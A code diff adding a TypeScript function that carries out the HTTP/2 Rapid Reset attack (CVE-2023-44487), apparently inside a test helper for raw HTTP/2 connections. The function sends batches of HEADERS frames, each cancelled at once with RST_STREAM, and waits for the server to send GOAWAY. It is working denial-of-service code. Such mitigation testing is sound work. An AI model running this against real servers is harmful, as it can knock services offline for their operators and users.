@@ -130,3 +130,26 @@ export async function connectH2(port: number, ca: string): Promise<RawH2> {
     },
   };
 }
+
+/** RST_STREAM's CANCEL error code, as its payload. */
+export const CANCEL = Buffer.from([0, 0, 0, 8]);
+
+/**
+ * Rapid reset (CVE-2023-44487): HEADERS then RST_STREAM for new streams, 100 a batch, for up to 200
+ * batches or until the connection closes; resolves on GOAWAY or close (or after 10 s).
+ */
+export async function rapidReset(conn: RawH2, headers: Buffer): Promise<void> {
+  let id = 1;
+  for (let round = 0; round < 200 && !conn.socket.destroyed; round++) {
+    const batch: Buffer[] = [];
+    for (let i = 0; i < 100; i++, id += 2) {
+      batch.push(
+        frame(TYPE.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, id, headers),
+        frame(TYPE.RST_STREAM, 0, id, CANCEL),
+      );
+    }
+    conn.send(...batch);
+    await new Promise((r) => setImmediate(r));
+  }
+  await Promise.race([conn.closed, conn.until((f) => f.type === TYPE.GOAWAY, 10_000)]);
+}
